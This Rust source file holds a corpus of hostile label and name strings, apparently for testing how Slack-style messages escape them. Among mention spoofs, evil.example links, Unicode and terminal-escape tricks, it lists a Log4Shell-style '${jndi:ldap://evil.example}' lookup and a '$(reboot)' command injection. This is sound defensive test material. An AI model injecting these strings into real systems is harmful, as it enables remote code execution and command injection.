//! The worst that is written into labels and names.

/// What people put into labels when they mean ill, or don't care.
#[must_use]
pub fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = [
        "<!channel>",
        "<!here|here>",
        "<!everyone>",
        "@here @channel @everyone",
        "<@U024BE7LH>",
        "<!subteam^S0123ABC>",
        "<#C0123ABC>",
        "<https://evil.example|Approve here>",
        "https://evil.example/x",
        "mailto:a@evil.example",
        "[text](https://evil.example)",
        "*bold* _italic_ ~strike~ `code` ```block```",
        "`<!channel>`",
        "``` <!here> ```",
        "> quote",
        "&gt; quote",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "&#60;!channel&#62;",
        ":fire: :rotating_light:",
        "\u{202e}drowssap\u{202c}",
        "\u{200b}<\u{200b}!channel>",
        "<\u{200d}!channel>",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
        "{{ .Labels.secret }}",
        "{% include x %}",
        "${jndi:ldap://evil.example}",
        "$(reboot)",
        "a\nb\r\nc\u{2028}d\u{85}e",
        "<!date^1392734382^{date}|x>",
        "\u{0}",
        "",
        " ",
        "``",
        "`",
        "<",
        ">",
        "&",
        "<>",
        "a|b",
        "\u{e0041}\u{e0042}",
        "🔥🔥",
        "\\`<!channel>\\`",
        "‘<!channel>’",
        "Z̴a̷l̶g̵o̸",
    ]
    .map(str::to_owned)
    .to_vec();
    corpus.push("<!channel>".repeat(6554));
    corpus.push("`*&<>_~".repeat(9363));
    corpus.push("𝔣".repeat(16_384));
    corpus
}
